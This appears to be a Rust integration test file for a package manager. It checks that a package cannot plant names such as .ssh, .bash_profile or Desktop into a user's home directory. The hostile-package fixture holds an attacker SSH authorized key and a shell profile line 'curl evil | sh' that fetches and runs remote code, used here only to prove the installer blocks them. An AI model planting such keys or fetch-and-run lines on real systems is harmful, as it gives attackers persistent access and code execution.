//! `$HOME` is linked into the active profile only through a fixed set of directory names, and
//! a change that took effect is never reported as a failure because `$HOME` could not follow.
#![allow(clippy::disallowed_methods)] // fixtures are set up with std::fs; the fs-err rule is for Pandora

mod support;

use std::path::PathBuf;

use support::{files_under, is_root, package_source, Sandbox};

fn hostile_package(sandbox: &Sandbox) -> PathBuf {
    let source = sandbox.home().join("src-hostile");
    package_source(
        &source,
        "hostile",
        "1.0.0",
        Some("bin/tool"),
        &[
            ("bin/tool", "#!/bin/sh\necho tool\n"),
            (".ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n"),
            (".bash_profile", "curl evil | sh\n"),
            ("Desktop/readme", "hello\n"),
            ("share/hostile/doc", "doc\n"),
        ],
    );
    let output = sandbox.home().join("hostile.psp");
    sandbox
        .build(&source, &output, "publisher", &["--allow-secrets"])
        .success();
    output
}

#[test]
fn a_package_cannot_put_names_into_home() {
    let sandbox = Sandbox::new();
    let package = hostile_package(&sandbox);
    // What an older Pandora left: a link for a hidden name into the forest.
    std::fs::create_dir_all(sandbox.home()).unwrap();
    std::os::unix::fs::symlink(
        sandbox.pandora_home().join("vir/.ssh"),
        sandbox.home().join(".ssh"),
    )
    .unwrap();
    let run = sandbox.run(&["install", "--yes", package.to_str().unwrap()]);
    run.success();
    let home = sandbox.home();
    assert!(home.join("bin").symlink_metadata().unwrap().is_symlink());
    assert!(home.join("share").symlink_metadata().unwrap().is_symlink());
    for name in [".ssh", ".bash_profile", "Desktop"] {
        assert!(
            home.join(name).symlink_metadata().is_err(),
            "{name} appeared in $HOME:\n{}",
            run.stderr
        );
    }
    assert!(run.stderr.contains("Unlinked"), "{}", run.stderr);
    let tool = sandbox.run_file(&home.join("bin/tool"), &[], |_| {});
    assert_eq!(tool.success().stdout, "tool\n");

    // Deactivated, the forest has no `bin`: the link that led into it goes too.
    sandbox.run(&["deactivate", "hostile"]).success();
    assert!(home.join("bin").symlink_metadata().is_err());
}

#[test]
fn a_committed_activation_succeeds_with_a_warning_when_home_cannot_be_linked() {
    let sandbox = Sandbox::new();
    let package = hostile_package(&sandbox);
    // A `$HOME` that is a file: no link can be made in it, even by root.
    let file_home = sandbox.home().join("not-a-directory");
    std::fs::write(&file_home, "").unwrap();
    let run = sandbox.run_with(
        &["install", "--yes", package.to_str().unwrap()],
        |command| {
            command.env("HOME", &file_home);
        },
    );
    run.success();
    assert!(
        run.stderr.contains("warning: the profile changed, but"),
        "{}",
        run.stderr
    );
    let listed = sandbox.run(&["list"]);
    assert!(
        listed.success().stdout.contains("hostile"),
        "{}",
        listed.stdout
    );
}

#[test]
fn a_file_saved_into_home_bin_survives_the_next_generation() {
    let sandbox = Sandbox::new();
    let package = hostile_package(&sandbox);
    sandbox
        .run(&["install", "--yes", package.to_str().unwrap()])
        .success();
    let bin = sandbox.home().join("bin");
    // Generations are sealed: an ordinary user cannot save here at all. Root can; either way
    // nothing may be lost when the next generation is made.
    let saved = std::fs::write(bin.join("mine.sh"), "#!/bin/sh\necho mine\n");
    let as_root = is_root();
    assert_eq!(saved.is_ok(), as_root, "{saved:?}");
    if !as_root {
        return;
    }
    let run = sandbox.run(&["deactivate", "hostile"]);
    run.success();
    assert!(
        run.stderr.contains("belongs to no package"),
        "{}",
        run.stderr
    );
    let rescued: Vec<_> = files_under(&sandbox.pandora_home().join("rescue"));
    assert!(
        rescued.iter().any(|path| path.ends_with("bin/mine.sh")),
        "{rescued:?}"
    );
}
